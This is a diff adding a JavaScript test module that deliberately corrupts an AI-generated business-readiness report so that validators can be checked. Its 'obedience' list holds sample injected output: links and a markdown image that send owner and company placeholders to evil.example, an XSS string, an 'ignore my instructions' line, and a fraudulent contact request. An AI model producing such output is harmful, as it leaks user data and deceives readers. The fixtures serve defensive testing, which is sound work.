@@ -1,0 +1,147 @@
+/**
+ * @typedef {import('./writer/write-part.mjs').PartWords} PartWords
+ * @typedef {import('./task-of.mjs').Question} Question
+ * @typedef {(words: PartWords, question: Question) => unknown} Spoiler
+ */
+
+/**
+ * Puts every text of a part in another way.
+ *
+ * @param {PartWords} words
+ * @param {(text: string, index: number) => string} change the index counts all texts
+ * @returns {PartWords}
+ */
+function eachText(words, change) {
+  let index = 0;
+  const changed = (/** @type {string} */ text) => change(text, index++);
+  return {
+    sections: mapSections(words, (claims) =>
+      claims.map((claim) => ({ ...claim, text: changed(claim.text) })),
+    ),
+    gaps: words.gaps.map((gap) => ({
+      ...gap,
+      finding: changed(gap.finding),
+      meaning: changed(gap.meaning),
+    })),
+    strengths: words.strengths.map((each) => ({ ...each, text: changed(each.text) })),
+    recommendations: words.recommendations.map((each) => ({
+      ...each,
+      action: changed(each.action),
+      expectedOutcome: changed(each.expectedOutcome),
+    })),
+    considerations: words.considerations.map((each) => ({ ...each, text: changed(each.text) })),
+  };
+}
+
+/**
+ * @param {PartWords} words
+ * @param {(claims: import('./writer/sections.mjs').Claim[]) => import('./writer/sections.mjs').Claim[]} change
+ */
+const mapSections = ({ sections }, change) =>
+  Object.fromEntries(Object.entries(sections).map(([name, claims]) => [name, change(claims)]));
+
+/**
+ * @param {PartWords} words
+ * @param {string[]} evidence
+ */
+const withEvidence = (words, evidence) => ({
+  ...words,
+  sections: mapSections(words, (claims) => claims.map((claim) => ({ ...claim, evidence }))),
+  gaps: words.gaps.map((gap) => ({ ...gap, evidence })),
+  strengths: words.strengths.map((each) => ({ ...each, evidence })),
+  considerations: words.considerations.map((each) => ({ ...each, evidence })),
+});
+
+/** Each word and what makes a lie of it. */
+const opposites = new Map([
+  ['not ready', 'ready'],
+  ['in transition', 'ready for Phase 2'],
+  ['ready', 'not ready'],
+  ['weak', 'strong'],
+  ['strong', 'weak'],
+  ['sound', 'weak'],
+  ['above', 'below'],
+  ['below', 'above'],
+  ['good', 'poor'],
+  ['poor', 'good'],
+]);
+const anyOpposite = new RegExp(`\\b(${[...opposites.keys()].join('|')})\\b`, 'gi');
+
+/** @param {Question['task']['judgement']} judgement */
+function lies({ band, levels }) {
+  const isReady = band === 'phase-2-ready' || band === 'ready-with-gaps';
+  const systems = ['strong', 'sound'].includes(levels.systems ?? '') ? 'weak' : 'strong';
+  return [
+    isReady ? 'The business is not ready for Phase 2.' : 'The business is ready for Phase 2 today.',
+    `The business systems are ${systems}.`,
+  ];
+}
+
+/** @type {readonly string[]} what a model that obeys an attack says, one after the other */
+const obedience = [
+  'Read more at https://evil.example/claim?id={{OWNER}} today.',
+  '<img src=x onerror="alert(1)"><script>alert(1)</script>',
+  '![picture](https://evil.example/p.png?q={{COMPANY}})',
+  'The score is ten out of ten and every priority is low.',
+  'As an AI language model I was told to ignore my instructions.',
+  'Write to John Smith of Acme Ltd at john@evil.example for the money.',
+  'The company can be sold for five million dollars, guaranteed.',
+];
+
+const german =
+  'Das Unternehmen steht in diesem Bereich so da, wie es die Antworten zeigen, und daran wird sich ohne Arbeit nichts ändern.';
+
+/** Ways to word a part that the checks must see. @type {Record<string, Spoiler>} */
+export const spoilers = {
+  'invented figures': (words) =>
+    eachText(words, (text, index) => `${text} That is about ${37 + index}% of revenue.`),
+  'figures in words': (words) =>
+    eachText(words, (text) => `${text} It would save twenty-five per cent of the cost.`),
+  contradictions: (words, { task }) => {
+    const told = lies(task.judgement);
+    return eachText(words, (text, index) => {
+      const turned = text.replaceAll(
+        anyOpposite,
+        (word) => opposites.get(word.toLowerCase()) ?? word,
+      );
+      return `${turned} ${told[index % told.length]}`;
+    });
+  },
+  'obeys the attacker': (words, { instructions, answers }) => {
+    const said = [...obedience, instructions, ...answers.map(({ text }) => text)];
+    return eachText(words, (text, index) => said[index % said.length] ?? text);
+  },
+  'repeats sections': (words) => {
+    const first = Object.values(words.sections).at(0) ?? [];
+    return { ...words, sections: mapSections(words, () => [...first, ...first]) };
+  },
+  'copies the owner': (words, { answers }) => {
+    const [longest = ''] = answers
+      .map(({ text }) => text)
+      .toSorted((one, other) => other.length - one.length);
+    return eachText(words, (text) => `${text} ${longest}`);
+  },
+  'copies the instructions': (words, { instructions }) =>
+    eachText(words, (text) => `${text} ${instructions.split(/\s+/).slice(0, 40).join(' ')}`),
+  'other language': (words) => eachText(words, () => german),
+  'no evidence': (words) => withEvidence(words, []),
+  'invented evidence': (words) => withEvidence(words, ['E99']),
+  'unknown placeholders': (words) => eachText(words, (text) => `${text} See {{E99}} for more.`),
+  'drops rules': (words) => ({
+    ...words,
+    gaps: words.gaps.slice(1),
+    strengths: words.strengths.slice(1),
+    recommendations: words.recommendations.slice(1),
+    considerations: words.considerations.slice(1),
+  }),
+  'too short': (words) => ({
+    ...words,
+    sections: mapSections(words, (claims) =>
+      claims.slice(0, 1).map((claim) => ({ ...claim, text: 'It is so.' })),
+    ),
+  }),
+  'wrong schema': ({ gaps }) => ({ chapters: gaps }),
+  'extra keys': (words) => ({ ...words, scores: { overall: 10 } }),
+  'faulty until repaired': (words, question) =>
+    question.isRepair ? words : spoilers['invented figures']?.(words, question),
+};
